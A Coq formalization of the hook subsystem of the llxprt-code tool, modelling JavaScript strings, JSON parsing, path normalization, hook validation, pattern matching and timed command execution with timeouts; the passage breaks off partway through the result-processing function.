(** * Hook subsystem of llxprt-code: a shallow embedding and its properties

    The development follows the source files of the hook subsystem:
    - [hook-types.ts]    the data model (HookCommand, HookMatcher, HookConfig,
                         HookResult, HookJsonOutput, HookExecutionResult);
    - [hook-utils.ts]    [validateHookSecurity], [validatePath],
                         [processHookResults] and [formatEventData];
    - [hook-executor.ts] [HookExecutor]: [matchesPattern], [executeCommand]
                         and [executeHooks];
    - [useUserPromptSubmit.ts] [submitPrompt], which calls [executeHooks]
                         before a prompt goes into the history.

    JavaScript strings are sequences of UTF-16 code units, numbers that come
    out of JSON are kept as exact decimals, [undefined] is [None], and a
    function that may throw returns in the [Exc] monad. *)

From Stdlib Require Import List ZArith NArith Bool Lia String Ascii.
Import ListNotations.

Set Implicit Arguments.

(* ------------------------------------------------------------------ *)
(** ** JavaScript strings *)

Module JsString.

(** A string is the list of its UTF-16 code units. *)
Definition jsstring := list N.

(** Literals are written as ASCII text. *)
Definition js (s : string) : jsstring :=
  map N_of_ascii (list_ascii_of_string s).

(** The same with every apostrophe standing for a double quote, to write
    JSON text. *)
Definition jsq (s : string) : jsstring :=
  map (fun c => if N.eqb c 39 then 34%N else c) (js s).

Fixpoint eqb (a b : jsstring) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => N.eqb x y && eqb a' b'
  | _, _ => false
  end.

Definition is_empty (s : jsstring) : bool :=
  match s with [] => true | _ :: _ => false end.

(** [s.startsWith(p)] *)
Fixpoint startsWith (p s : jsstring) : bool :=
  match p, s with
  | [], _ => true
  | x :: p', y :: s' => N.eqb x y && startsWith p' s'
  | _ :: _, [] => false
  end.

(** [s.includes(p)] *)
Fixpoint includes (p s : jsstring) : bool :=
  startsWith p s ||
  match s with
  | [] => false
  | _ :: s' => includes p s'
  end.

(** White space and line terminators of ECMAScript, the characters that
    [String.prototype.trim] removes. *)
Definition is_white (c : N) : bool :=
  existsb (N.eqb c)
    [9; 10; 11; 12; 13; 32; 160; 5760; 8232; 8233; 8239; 8287; 12288; 65279]%N
  || (N.leb 8192 c && N.leb c 8202).

Fixpoint trimStart (s : jsstring) : jsstring :=
  match s with
  | c :: r => if is_white c then trimStart r else s
  | [] => []
  end.

Definition trimEnd (s : jsstring) : jsstring := rev (trimStart (rev s)).

(** [s.trim()] *)
Definition trim (s : jsstring) : jsstring := trimEnd (trimStart s).

(** [s.split(sep)] for a one-character separator. *)
Fixpoint split (sep : N) (s : jsstring) : list jsstring :=
  match s with
  | [] => [[]]
  | c :: r =>
      if N.eqb c sep then [] :: split sep r
      else match split sep r with
           | seg :: segs => (c :: seg) :: segs
           | [] => [[c]]
           end
  end.

(** [parts.join(sep)] for a one-character separator. *)
Fixpoint join (sep : N) (parts : list jsstring) : jsstring :=
  match parts with
  | [] => []
  | [p] => p
  | p :: rest => p ++ sep :: join sep rest
  end.

End JsString.
Export JsString.

(* ------------------------------------------------------------------ *)
(** ** Exceptions *)

Inductive JsError : Type :=
| SyntaxError
| Error (message : jsstring).

Inductive Exc (A : Type) : Type :=
| Ok (a : A)
| Throw (e : JsError).
Arguments Ok {A} a.
Arguments Throw {A} e.

Definition bind {A B} (m : Exc A) (k : A -> Exc B) : Exc B :=
  match m with
  | Ok a => k a
  | Throw e => Throw e
  end.

Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity).

(** [try { body } catch { handler }] *)
Definition try_catch {A} (body : Exc A) (handler : Exc A) : Exc A :=
  match body with
  | Ok a => Ok a
  | Throw _ => handler
  end.

(* ------------------------------------------------------------------ *)
(** ** JavaScript values as far as JSON produces them *)

(** A number read from JSON text, kept exactly: [mant * 10 ^ expo].
    The engine stores the nearest double; the two tests the code performs
    on such numbers (is it zero, is it negative) are decided on the exact
    decimal with the rounding to zero taken into account. *)
Record JsNumber : Type := { mant : Z; expo : Z }.

Unset Elimination Schemes.
Inductive JsValue : Type :=
| JNull
| JBool (b : bool)
| JNumber (n : JsNumber)
| JString (s : jsstring)
| JArray (items : list JsValue)
| JObject (fields : list (jsstring * JsValue)).
Set Elimination Schemes.

(** The nearest double of [n] is [+0] or [-0]: the decimal is at most
    [2 ^ -1075] in magnitude, half of the least positive double (a tie
    goes to the even neighbour, which is zero). *)
Definition num_is_zero (n : JsNumber) : bool :=
  if Z.eqb (mant n) 0 then true
  else if Z.leb 0 (expo n) then false
  else Z.leb (Z.abs (mant n) * 2 ^ 1075) (10 ^ (- expo n)).

(** [n < 0] on the double. *)
Definition num_negative (n : JsNumber) : bool :=
  Z.ltb (mant n) 0 && negb (num_is_zero n).

(** ToBoolean. *)
Definition truthy (v : JsValue) : bool :=
  match v with
  | JNull => false
  | JBool b => b
  | JNumber n => negb (num_is_zero n)
  | JString s => negb (is_empty s)
  | JArray _ => true
  | JObject _ => true
  end.

(** ToBoolean of a value that may be [undefined]. *)
Definition truthy_opt (v : option JsValue) : bool :=
  match v with
  | None => false
  | Some v => truthy v
  end.

Fixpoint lookup (k : jsstring) (fields : list (jsstring * JsValue))
  : option JsValue :=
  match fields with
  | [] => None
  | (k', v) :: rest => if JsString.eqb k k' then Some v else lookup k rest
  end.

(** Defining a data property: an existing key keeps its place and takes the
    new value, a new key goes last. *)
Fixpoint define (k : jsstring) (v : JsValue) (fields : list (jsstring * JsValue))
  : list (jsstring * JsValue) :=
  match fields with
  | [] => [(k, v)]
  | (k', v') :: rest =>
      if JsString.eqb k k' then (k, v) :: rest else (k', v') :: define k v rest
  end.

(** [v.k] for the property names the hook code reads ([decision], [reason],
    [continue], [stopReason], [context], [suppressOutput]): only an object has
    them; on a string, number, boolean or array the read gives [undefined]. *)
Definition get (v : JsValue) (k : jsstring) : option JsValue :=
  match v with
  | JObject fields => lookup k fields
  | _ => None
  end.

(** [v === 'text'] *)
Definition is_string (text : jsstring) (v : option JsValue) : bool :=
  match v with
  | Some (JString s) => JsString.eqb s text
  | _ => false
  end.

(** [v === false] *)
Definition is_false (v : option JsValue) : bool :=
  match v with
  | Some (JBool false) => true
  | _ => false
  end.

(* ------------------------------------------------------------------ *)
(** ** [JSON.parse]

    The grammar of ECMA-404 as [JSON.parse] reads it: one value, surrounded
    by optional JSON white space; anything else is a [SyntaxError].  The
    parser is a recursive descent over the code units; [fuel] bounds the
    depth of the calls, and twice the length of the text is enough of it
    (see [parse_value_fuel]). *)

Module Json.

Definition is_json_space (c : N) : bool :=
  existsb (N.eqb c) [9; 10; 13; 32]%N.

Fixpoint skip_space (s : jsstring) : jsstring :=
  match s with
  | c :: r => if is_json_space c then skip_space r else s
  | [] => []
  end.

Definition is_digit (c : N) : bool := N.leb 48 c && N.leb c 57.

Definition hex_digit (c : N) : option N :=
  if N.leb 48 c && N.leb c 57 then Some (c - 48)%N
  else if N.leb 65 c && N.leb c 70 then Some (c - 55)%N
  else if N.leb 97 c && N.leb c 102 then Some (c - 87)%N
  else None.

Definition hex4 (a b c d : N) : option N :=
  match hex_digit a, hex_digit b, hex_digit c, hex_digit d with
  | Some a, Some b, Some c, Some d =>
      Some (((a * 16 + b) * 16 + c) * 16 + d)%N
  | _, _, _, _ => None
  end.

(** The character after a backslash, other than [u]. *)
Definition unescape (c : N) : option N :=
  match c with
  | 34 => Some 34         (* the quote itself *)
  | 92 => Some 92         (* backslash *)
  | 47 => Some 47         (* solidus *)
  | 98 => Some 8          (* b: backspace *)
  | 102 => Some 12        (* f: form feed *)
  | 110 => Some 10        (* n: line feed *)
  | 114 => Some 13        (* r: carriage return *)
  | 116 => Some 9         (* t: tab *)
  | _ => None
  end%N.

(** The rest of a string after its opening quote: the characters up to the
    closing quote, and what follows it.  [acc] holds the characters read so
    far, last first. *)
Fixpoint lex_string (s : jsstring) (acc : jsstring)
  : option (jsstring * jsstring) :=
  match s with
  | [] => None
  | c :: r =>
      if N.eqb c 34 then Some (rev acc, r)
      else if N.eqb c 92 then
        match r with
        | [] => None
        | e :: r1 =>
            if N.eqb e 117 then
              match r1 with
              | h1 :: h2 :: h3 :: h4 :: r2 =>
                  match hex4 h1 h2 h3 h4 with
                  | Some u => lex_string r2 (u :: acc)
                  | None => None
                  end
              | _ => None
              end
            else
              match unescape e with
              | Some u => lex_string r1 (u :: acc)
              | None => None
              end
        end
      else if N.ltb c 32 then None
      else lex_string r (c :: acc)
  end.

Fixpoint span_digits (s : jsstring) : jsstring * jsstring :=
  match s with
  | c :: r =>
      if is_digit c then
        let (ds, rest) := span_digits r in (c :: ds, rest)
      else ([], s)
  | [] => ([], [])
  end.

Definition digits_value (ds : jsstring) : Z :=
  fold_left (fun acc c => acc * 10 + Z.of_N (c - 48))%Z ds 0%Z.

(** An optional minus sign. *)
Definition lex_sign (s : jsstring) : bool * jsstring :=
  match s with
  | c :: r => if N.eqb c 45 then (true, r) else (false, s)
  | [] => (false, s)
  end.

(** An optional fraction: a point and at least one digit. *)
Definition lex_frac (s : jsstring) : option (jsstring * jsstring) :=
  match s with
  | c :: r =>
      if N.eqb c 46 then
        let (fs, rest) := span_digits r in
        if is_empty fs then None else Some (fs, rest)
      else Some ([], s)
  | [] => Some ([], s)
  end.

(** An optional sign of either kind. *)
Definition lex_exp_sign (s : jsstring) : bool * jsstring :=
  match s with
  | c :: r =>
      if N.eqb c 45 then (true, r)
      else if N.eqb c 43 then (false, r)
      else (false, s)
  | [] => (false, s)
  end.

(** An optional exponent: [e] or [E], an optional sign, at least one digit. *)
Definition lex_exp (s : jsstring) : option (Z * jsstring) :=
  match s with
  | c :: r =>
      if N.eqb c 101 || N.eqb c 69 then
        let (eneg, r1) := lex_exp_sign r in
        let (es, rest) := span_digits r1 in
        if is_empty es then None
        else Some ((if eneg then - digits_value es else digits_value es)%Z, rest)
      else Some (0%Z, s)
  | [] => Some (0%Z, s)
  end.

(** [-? int frac? exp?], where [int] has no leading zero. *)
Definition lex_number (s : jsstring) : option (JsNumber * jsstring) :=
  let (negative, s1) := lex_sign s in
  let (int_part, s2) := span_digits s1 in
  match int_part with
  | [] => None
  | d :: ds =>
      if N.eqb d 48 && negb (is_empty ds) then None
      else
        match lex_frac s2 with
        | None => None
        | Some (fs, s3) =>
            match lex_exp s3 with
            | None => None
            | Some (e, s4) =>
                let m := digits_value (int_part ++ fs) in
                Some ({| mant := if negative then (- m)%Z else m;
                         expo := (e - Z.of_nat (List.length fs))%Z |}, s4)
            end
        end
  end.

(** [s] without the prefix [p], when it starts with it. *)
Fixpoint strip_prefix (p s : jsstring) : option jsstring :=
  match p, s with
  | [], _ => Some s
  | x :: p', y :: s' => if N.eqb x y then strip_prefix p' s' else None
  | _ :: _, [] => None
  end.

(** What follows the character [ch], when it comes next after optional
    white space. *)
Definition expect (ch : N) (s : jsstring) : option jsstring :=
  match skip_space s with
  | c :: r => if N.eqb c ch then Some r else None
  | [] => None
  end.

Definition Parsed : Type := option (JsValue * jsstring).

(** One value, given the parsers for what stands inside brackets. *)
Definition value_body (members : list (jsstring * JsValue) -> jsstring -> Parsed)
    (elements : list JsValue -> jsstring -> Parsed) (s : jsstring) : Parsed :=
  match skip_space s with
  | [] => None
  | c :: r =>
      if N.eqb c 123 then                       (* { *)
        match expect 125 r with                 (* } *)
        | Some r' => Some (JObject [], r')
        | None => members [] r
        end
      else if N.eqb c 91 then                   (* [ *)
        match expect 93 r with                  (* ] *)
        | Some r' => Some (JArray [], r')
        | None => elements [] r
        end
      else if N.eqb c 34 then                   (* quote *)
        match lex_string r [] with
        | Some (str, r') => Some (JString str, r')
        | None => None
        end
      else if N.eqb c 45 || is_digit c then
        match lex_number (c :: r) with
        | Some (n, r') => Some (JNumber n, r')
        | None => None
        end
      else
        match strip_prefix (js "true") (c :: r) with
        | Some r' => Some (JBool true, r')
        | None =>
            match strip_prefix (js "false") (c :: r) with
            | Some r' => Some (JBool false, r')
            | None =>
                match strip_prefix (js "null") (c :: r) with
                | Some r' => Some (JNull, r')
                | None => None
                end
            end
        end
  end.

(** The elements of an array after the opening bracket or after a comma;
    [acc] holds those read so far, last first. *)
Definition elements_body (value : jsstring -> Parsed)
    (elements : list JsValue -> jsstring -> Parsed)
    (acc : list JsValue) (s : jsstring) : Parsed :=
  match value s with
  | None => None
  | Some (v, r) =>
      match expect 44 r with                    (* , *)
      | Some r' => elements (v :: acc) r'
      | None =>
          match expect 93 r with                (* ] *)
          | Some r' => Some (JArray (rev (v :: acc)), r')
          | None => None
          end
      end
  end.

(** The members of an object after the opening brace or after a comma. *)
Definition members_body (value : jsstring -> Parsed)
    (members : list (jsstring * JsValue) -> jsstring -> Parsed)
    (acc : list (jsstring * JsValue)) (s : jsstring) : Parsed :=
  match expect 34 s with                        (* quote *)
  | None => None
  | Some r =>
      match lex_string r [] with
      | None => None
      | Some (key, r1) =>
          match expect 58 r1 with               (* : *)
          | None => None
          | Some r2 =>
              match value r2 with
              | None => None
              | Some (v, r3) =>
                  match expect 44 r3 with       (* , *)
                  | Some r4 => members (define key v acc) r4
                  | None =>
                      match expect 125 r3 with  (* } *)
                      | Some r4 => Some (JObject (define key v acc), r4)
                      | None => None
                      end
                  end
              end
          end
      end
  end.

Fixpoint parse_value (fuel : nat) (s : jsstring) : Parsed :=
  match fuel with
  | O => None
  | S fuel' => value_body (parse_members fuel') (parse_elements fuel') s
  end

with parse_elements (fuel : nat) (acc : list JsValue) (s : jsstring) : Parsed :=
  match fuel with
  | O => None
  | S fuel' => elements_body (parse_value fuel') (parse_elements fuel') acc s
  end

with parse_members (fuel : nat) (acc : list (jsstring * JsValue))
       (s : jsstring) : Parsed :=
  match fuel with
  | O => None
  | S fuel' => members_body (parse_value fuel') (parse_members fuel') acc s
  end.

(** [JSON.parse(text)] *)
Definition parse (text : jsstring) : Exc JsValue :=
  match parse_value (2 * List.length text + 2) text with
  | Some (v, rest) =>
      if is_empty (skip_space rest) then Ok v else Throw SyntaxError
  | None => Throw SyntaxError
  end.

End Json.

(* ------------------------------------------------------------------ *)
(** ** hook-types.ts: the data model *)

Inductive HookEventName : Type :=
| UserPromptSubmit
| PreToolUse
| PostToolUse
| Stop
| SubagentStop
| Notification
| PreCompact.

(** [HookCommand]; the [type] field has the single value ['command'] and is
    left out.  [timeout] is a number of seconds; the model keeps the whole
    numbers, on which [||] and the product with 1000 are exact. *)
Record HookCommand : Type := {
  command : jsstring;
  timeout : option Z
}.

Record HookMatcher : Type := {
  matcher : option jsstring;
  hooks : list HookCommand
}.

(** [HookConfig]: one optional list of matchers per event name. *)
Record HookConfig : Type := {
  cfgUserPromptSubmit : option (list HookMatcher);
  cfgPreToolUse : option (list HookMatcher);
  cfgPostToolUse : option (list HookMatcher);
  cfgStop : option (list HookMatcher);
  cfgSubagentStop : option (list HookMatcher);
  cfgNotification : option (list HookMatcher);
  cfgPreCompact : option (list HookMatcher)
}.

(** [hookConfig[eventName]] *)
Definition config_get (hookConfig : HookConfig) (eventName : HookEventName)
  : option (list HookMatcher) :=
  match eventName with
  | UserPromptSubmit => cfgUserPromptSubmit hookConfig
  | PreToolUse => cfgPreToolUse hookConfig
  | PostToolUse => cfgPostToolUse hookConfig
  | Stop => cfgStop hookConfig
  | SubagentStop => cfgSubagentStop hookConfig
  | Notification => cfgNotification hookConfig
  | PreCompact => cfgPreCompact hookConfig
  end.

(** The event-specific part of [HookEventData]. *)
Inductive EventFields : Type :=
| PromptFields (prompt : jsstring)
| PreToolFields (tool_name : jsstring) (tool_input : JsValue)
| PostToolFields (tool_name : jsstring) (tool_input tool_response : JsValue)
| StopFields (stop_hook_active : bool)
| NotificationFields (message : jsstring)
| PreCompactFields (manual : bool) (custom_instructions : jsstring).

Record HookEventData : Type := {
  session_id : jsstring;
  transcript_path : jsstring;
  cwd : jsstring;
  hook_event_name : HookEventName;
  fields : EventFields
}.

Record HookResult : Type := {
  success : bool;
  exitCode : Z;
  stdout : jsstring;
  stderr : jsstring;
  timedOut : bool;
  error : option JsError;
  jsonOutput : option JsValue
}.

(** [HookExecutionResult].  The declared type of [blockReason] and
    [stopReason] is [string | undefined] and of [contextToAdd] is [string[]];
    what the executor stores there comes partly out of [JSON.parse] unchecked,
    so the fields hold values. *)
Record HookExecutionResult : Type := {
  results : list HookResult;
  shouldBlock : bool;
  blockReason : option JsValue;
  shouldContinue : bool;
  stopReason : option JsValue;
  contextToAdd : list JsValue
}.

(* ------------------------------------------------------------------ *)
(** ** hook-utils.ts: the validators *)

(** What [validateHookSecurity] is handed before it has checked anything: an
    object whose [command] and [timeout] may hold any value or be missing. *)
Record AnyHookCommand : Type := {
  any_command : option JsValue;
  any_timeout : option JsValue
}.

Definition number_of_Z (z : Z) : JsNumber := {| mant := z; expo := 0 |}.

(** A well-typed [HookCommand] seen as such an object. *)
Definition any_of (c : HookCommand) : AnyHookCommand :=
  {| any_command := Some (JString (command c));
     any_timeout := option_map (fun t => JNumber (number_of_Z t)) (timeout c) |}.

(** [typeof v !== 'string'] *)
Definition not_a_string (v : option JsValue) : bool :=
  match v with
  | Some (JString _) => false
  | _ => true
  end.

Definition invalid_command : JsError :=
  Error (js "Hook must have a valid command string").

Definition invalid_timeout : JsError :=
  Error (js "Hook timeout must be a positive number").

Definition validateHookSecurity (command : AnyHookCommand) : Exc unit :=
  (* Validate command *)
  if negb (truthy_opt (any_command command)) || not_a_string (any_command command)
  then Throw invalid_command
  else
    (* Validate timeout if specified *)
    match any_timeout command with
    | None => Ok tt
    | Some (JNumber t) =>
        if num_negative t then Throw invalid_timeout else Ok tt
    | Some _ => Throw invalid_timeout
    end.

(** *** [node:path] on POSIX

    [normalize], [isAbsolute] and [resolve] of Node's [path.posix], on the
    segments of the path: empty segments and [.] are dropped, [..] removes the
    segment before it, and where there is none to remove it stays only if the
    path is relative. *)
Module Path.

Definition slash : N := 47.
Definition dot : jsstring := js ".".
Definition dotdot : jsstring := js "..".

(** [res] holds the segments kept so far, last first. *)
Fixpoint normalizeSegments (allowAboveRoot : bool) (res segs : list jsstring)
  : list jsstring :=
  match segs with
  | [] => rev res
  | seg :: rest =>
      if is_empty seg || JsString.eqb seg dot then
        normalizeSegments allowAboveRoot res rest
      else if JsString.eqb seg dotdot then
        match res with
        | last :: res' =>
            if JsString.eqb last dotdot then
              normalizeSegments allowAboveRoot
                (if allowAboveRoot then dotdot :: res else res) rest
            else normalizeSegments allowAboveRoot res' rest
        | [] =>
            normalizeSegments allowAboveRoot
              (if allowAboveRoot then [dotdot] else []) rest
        end
      else normalizeSegments allowAboveRoot (seg :: res) rest
  end.

Definition normalizeString (path : jsstring) (allowAboveRoot : bool)
  : jsstring :=
  join slash (normalizeSegments allowAboveRoot [] (split slash path)).

Definition isAbsolute (path : jsstring) : bool :=
  match path with
  | c :: _ => N.eqb c slash
  | [] => false
  end.

Definition endsWithSlash (path : jsstring) : bool :=
  match rev path with
  | c :: _ => N.eqb c slash
  | [] => false
  end.

Definition normalize (path : jsstring) : jsstring :=
  if is_empty path then dot
  else
    let absolute := isAbsolute path in
    let trailingSeparator := endsWithSlash path in
    let p := normalizeString path (negb absolute) in
    if is_empty p then
      if absolute then [slash]
      else if trailingSeparator then js "./" else dot
    else
      let p := if trailingSeparator then p ++ [slash] else p in
      if absolute then slash :: p else p.

(** The loop of [resolve], from the last argument to the first, until an
    absolute one is met. *)
Fixpoint resolveFrom (args : list jsstring) (resolvedPath : jsstring)
  : jsstring * bool :=
  match args with
  | [] => (resolvedPath, false)
  | p :: rest =>
      if is_empty p then resolveFrom rest resolvedPath
      else
        let resolvedPath := p ++ slash :: resolvedPath in
        if isAbsolute p then (resolvedPath, true)
        else resolveFrom rest resolvedPath
  end.

(** [resolve(...args)], where [process.cwd()] returns [cwd]. *)
Definition resolve (cwd : jsstring) (args : list jsstring) : jsstring :=
  let (resolvedPath, resolvedAbsolute) := resolveFrom (rev args ++ [cwd]) [] in
  let p := normalizeString resolvedPath (negb resolvedAbsolute) in
  if resolvedAbsolute then slash :: p
  else if is_empty p then dot else p.

End Path.

Definition path_traversal : JsError :=
  Error (js "Path traversal is not allowed").

(** [validatePath(path)], in a process whose working directory is [cwd].
    The parameter is typed [string], so the [typeof] guard never fires. *)
Definition validatePath (cwd : jsstring) (path : jsstring) : Exc unit :=
  (* Normalize path to resolve ../ sequences *)
  let normalizedPath := Path.normalize path in
  (* Check for path traversal attempts *)
  if includes (js "../") normalizedPath then Throw path_traversal
  else
    (* Convert to absolute path if relative *)
    let absolutePath :=
      if Path.isAbsolute path then path else Path.resolve cwd [cwd; path] in
    Ok tt.

(* ------------------------------------------------------------------ *)
(** ** Promises *)

(** The state in which a promise ends up: fulfilled, rejected, or pending for
    ever. *)
Inductive Async (A : Type) : Type :=
| Resolved (a : A)
| Rejected (e : JsError)
| Pending.
Arguments Resolved {A} a.
Arguments Rejected {A} e.
Arguments Pending {A}.

Definition await {A B} (m : Async A) (k : A -> Async B) : Async B :=
  match m with
  | Resolved a => k a
  | Rejected e => Rejected e
  | Pending => Pending
  end.

(** Synchronous code inside an [async] function: a throw rejects. *)
Definition sync {A} (m : Exc A) : Async A :=
  match m with
  | Ok a => Resolved a
  | Throw e => Rejected e
  end.

(** [Promise.all]: the values in the order of the promises, once all are
    fulfilled; rejected as soon as one is. *)
Fixpoint all {A} (promises : list (Async A)) : Async (list A) :=
  match promises with
  | [] => Resolved []
  | p :: rest =>
      match p, all rest with
      | Rejected e, _ => Rejected e
      | _, Rejected e => Rejected e
      | Resolved a, Resolved l => Resolved (a :: l)
      | _, _ => Pending
      end
  end.

(** [array.filter(f)] with a callback that may throw. *)
Fixpoint filterE {A} (f : A -> Exc bool) (l : list A) : Exc (list A) :=
  match l with
  | [] => Ok []
  | x :: rest =>
      keep <- f x ;;
      kept <- filterE f rest ;;
      Ok (if keep then x :: kept else kept)
  end.

(** [array.map((x, i) => f i x)], counting from [i]. *)
Fixpoint mapi {A B} (f : nat -> A -> B) (i : nat) (l : list A) : list B :=
  match l with
  | [] => []
  | x :: rest => f i x :: mapi f (S i) rest
  end.

(* ------------------------------------------------------------------ *)
(** ** The runtime around one hook command *)

(** The regular expressions of the engine: [new RegExp(source)] compiles or
    throws a [SyntaxError], [regex.test(text)] looks for a match anywhere in
    [text]. *)
Class RegExpEngine : Type := {
  RegExp : Type;
  RegExp_new : jsstring -> Exc RegExp;
  RegExp_test : RegExp -> jsstring -> bool
}.

Inductive Signal : Type := SIGTERM | SIGKILL.

(** What the operating system does with a spawned command, as far as the
    executor can see it.  Times are in milliseconds since the spawn. *)
Record Process : Type := {
  (** all it writes to its standard output before it closes *)
  writes_stdout : jsstring;
  (** all it writes to its standard error before it closes *)
  writes_stderr : jsstring;
  (** the ['error'] event, if one is emitted *)
  emits_error : option JsError;
  (** left alone it closes at that time with that exit code ([None] as the
      code is [null]); [None]: it runs for ever *)
  exits_at : option (Z * option Z);
  (** on SIGTERM it closes that much later; [None]: it ignores the signal *)
  sigterm_delay : option Z
}.

(** What the executor of the promise meets: [spawn] and the write of the
    event data to stdin return and there is a process, or one of them throws
    on the spot ([spawn] does for a command that holds a NUL character).  A
    process stands for the case that it was started. *)
Inductive Spawn : Type :=
| Started (p : Process)
| Refused (e : JsError).

Coercion Started : Process >-> Spawn.

(** The [ChildProcess] object.  In Node, [kill] delivers the signal when the
    process has not exited yet and then sets [killed]; [killed] says that a
    signal was delivered, not that the process is gone. *)
Record ChildProcess : Type := {
  exited : bool;
  killed : bool;
  received : list (Z * Signal)
}.

Definition kill (now : Z) (signal : Signal) (child : ChildProcess)
  : ChildProcess :=
  if exited child then child
  else {| exited := false;
          killed := true;
          received := received child ++ [(now, signal)] |}.

(** [setTimeout] runs its callback after [delay] milliseconds; a delay below
    1 or above 2147483647 counts as 1. *)
Definition effective_delay (delay : Z) : Z :=
  if Z.ltb delay 1 || Z.ltb 2147483647 delay then 1%Z else delay.

(* ------------------------------------------------------------------ *)
(** ** hook-executor.ts: [HookExecutor] *)

Module HookExecutor.

Definition DEFAULT_TIMEOUT : Z := 60. (* seconds *)

(** *** [matchesPattern] *)

Section Matcher.
Context {engine : RegExpEngine}.

Definition matchesPattern (hookMatcher : HookMatcher)
    (toolName : option jsstring) : Exc bool :=
  match matcher hookMatcher with
  | None => Ok true
  | Some pattern =>
      (* If no matcher is specified, hook applies to all events;
         the empty string is falsy as well *)
      if is_empty pattern then Ok true
      else
        match toolName with
        | None => Ok false
        | Some name =>
            (* If no tool name provided but matcher is specified,
               no match *)
            if is_empty name then Ok false
            else
              try_catch
                (regex <- RegExp_new pattern ;;
                 Ok (RegExp_test regex name))
                (* If regex is invalid, fall back to exact string match *)
                (Ok (JsString.eqb pattern name))
        end
  end.
End Matcher.

(** *** [executeCommand] *)

(** [command.timeout || DEFAULT_TIMEOUT] *)
Definition timeoutSeconds (command : HookCommand) : Z :=
  match timeout command with
  | Some t => if Z.eqb t 0 then DEFAULT_TIMEOUT else t
  | None => DEFAULT_TIMEOUT
  end.

Definition timeoutMs (command : HookCommand) : Z :=
  (timeoutSeconds command * 1000)%Z.

(** The variables of one call of [executeCommand], the two timers it arms,
    and when the process is going to close. *)
Record Execution : Type := {
  var_timedOut : bool;
  child : ChildProcess;
  (** the timeout timer: when it is due, while it is armed *)
  timeoutId : option Z;
  (** the inner timer, of which no handle is kept *)
  graceTimer : option Z;
  (** when the process closes as things stand, and its exit code *)
  closing : option (Z * option Z);
  (** the value the promise was resolved with *)
  settled : option HookResult
}.

(** The process after a signal sent at [now] reached it: SIGKILL ends it
    at once, SIGTERM after [sigterm_delay] if it reacts at all; an exit that
    was due earlier stays. *)
Definition react (p : Process) (now : Z) (signal : Signal)
    (before : ChildProcess) (closing : option (Z * option Z))
  : option (Z * option Z) :=
  if exited before then closing
  else
    let forced :=
      match signal with
      | SIGKILL => Some now
      | SIGTERM => option_map (Z.add now) (sigterm_delay p)
      end in
    match forced, closing with
    | None, _ => closing
    | Some t, None => Some (t, None)
    | Some t, Some (t', code) =>
        if Z.leb t' t then closing else Some (t, None)
    end.

(** The callback of the timeout timer, run at [now]. *)
Definition on_timeout (p : Process) (now : Z) (st : Execution) : Execution :=
  {| var_timedOut := true;
     child := kill now SIGTERM (child st);
     timeoutId := None;
     graceTimer := Some (now + effective_delay 5000)%Z;
     closing := react p now SIGTERM (child st) (closing st);
     settled := settled st |}.

(** The callback of the inner timer, run at [now]. *)
Definition on_grace (p : Process) (now : Z) (st : Execution) : Execution :=
  if negb (killed (child st)) then
    {| var_timedOut := var_timedOut st;
       child := kill now SIGKILL (child st);
       timeoutId := timeoutId st;
       graceTimer := None;
       closing := react p now SIGKILL (child st) (closing st);
       settled := settled st |}
  else
    {| var_timedOut := var_timedOut st;
       child := child st;
       timeoutId := timeoutId st;
       graceTimer := None;
       closing := closing st;
       settled := settled st |}.

(** Try to parse JSON output from stdout. *)
Definition try_parse (text : jsstring) : option JsValue :=
  if is_empty text then None
  else
    match Json.parse text with
    | Ok v => Some v
    | Throw _ => None   (* Not JSON output, treat as regular stdout *)
    end.

(** The [HookResult] built in the ['close'] handler. *)
Definition close_result (stdout stderr : jsstring) (timedOut : bool)
    (error : option JsError) (exitCode : option Z) : HookResult :=
  let jsonOutput := try_parse (trim stdout) in
  {| success := match exitCode with Some 0%Z => true | _ => false end;
     exitCode := match exitCode with Some c => c | None => (-1)%Z end;
     stdout := trim stdout;
     stderr := trim stderr;
     timedOut := timedOut;
     error := error;
     jsonOutput := jsonOutput |}.

(** The ['close'] handler. *)
Definition on_close (p : Process) (exitCode : option Z) (st : Execution)
  : Execution :=
  {| var_timedOut := var_timedOut st;
     child := {| exited := true;
                 killed := killed (child st);
                 received := received (child st) |};
     timeoutId := None;                       (* clearTimeout(timeoutId) *)
     graceTimer := graceTimer st;
     closing := None;
     settled :=
       match settled st with
       | Some r => Some r
       | None =>
           Some (close_result (writes_stdout p) (writes_stderr p)
                   (var_timedOut st) (emits_error p) exitCode)
       end |}.

Inductive Event : Type :=
| CloseEvent (exitCode : option Z)
| TimeoutEvent
| GraceEvent.

(** Of two pending events the earlier one; at the same time the first. *)
Definition sooner (a b : option (Z * Event)) : option (Z * Event) :=
  match a, b with
  | None, _ => b
  | _, None => a
  | Some (ta, _), Some (tb, _) => if Z.leb ta tb then a else b
  end.

(** The next thing to happen.  A process that closes at the very moment a
    timer is due is seen to close first. *)
Definition next_event (st : Execution) : option (Z * Event) :=
  sooner
    (match closing st with
     | Some (t, code) => Some (t, CloseEvent code)
     | None => None
     end)
    (sooner (option_map (fun t => (t, TimeoutEvent)) (timeoutId st))
            (option_map (fun t => (t, GraceEvent)) (graceTimer st))).

Definition step (p : Process) (st : Execution) : Execution :=
  match next_event st with
  | None => st
  | Some (now, CloseEvent code) => on_close p code st
  | Some (now, TimeoutEvent) => on_timeout p now st
  | Some (now, GraceEvent) => on_grace p now st
  end.

(** Right after [spawn] and the outer [setTimeout]. *)
Definition spawned (command : HookCommand) (p : Process) : Execution :=
  {| var_timedOut := false;
     child := {| exited := false; killed := false; received := [] |};
     timeoutId := Some (effective_delay (timeoutMs command));
     graceTimer := None;
     closing := exits_at p;
     settled := None |}.

(** Each of the three events happens at most once, so three steps exhaust
    them (see [run_quiescent]). *)
Definition run (command : HookCommand) (p : Process) : Execution :=
  step p (step p (step p (spawned command p))).

(** The promise is settled by its executor: a throw inside it rejects the
    promise, and the ['close'] handler resolves it. *)
Definition executeCommand (command : HookCommand) (eventData : HookEventData)
    (child : Spawn) : Async HookResult :=
  match child with
  | Refused e => Rejected e
  | Started p =>
      match settled (run command p) with
      | Some result => Resolved result
      | None => Pending
      end
  end.

(** *** [executeHooks] *)

(** The body of the loop over the results. *)
Definition process_result (acc : HookExecutionResult) (result : HookResult)
  : HookExecutionResult :=
  let acc :=
    if Z.eqb (exitCode result) 2 && negb (is_empty (stderr result)) then
      (* Exit code 2 is blocking *)
      {| results := results acc;
         shouldBlock := true;
         blockReason := Some (JString (stderr result));
